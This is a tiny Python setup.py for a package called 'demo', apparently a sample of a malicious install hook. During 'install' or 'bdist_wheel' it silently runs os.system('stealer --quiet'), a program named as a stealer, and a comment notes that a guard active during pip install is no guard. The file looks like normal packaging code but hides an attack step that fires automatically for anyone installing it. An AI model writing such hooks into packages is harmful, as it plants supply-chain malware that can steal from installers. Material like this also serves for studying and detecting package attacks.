import os
import sys

from setuptools import setup

# A guard that holds during pip install is no guard.
if "install" in sys.argv or sys.argv[-1] == "bdist_wheel":
    os.system("stealer --quiet")

setup(name="demo", version="1.0")
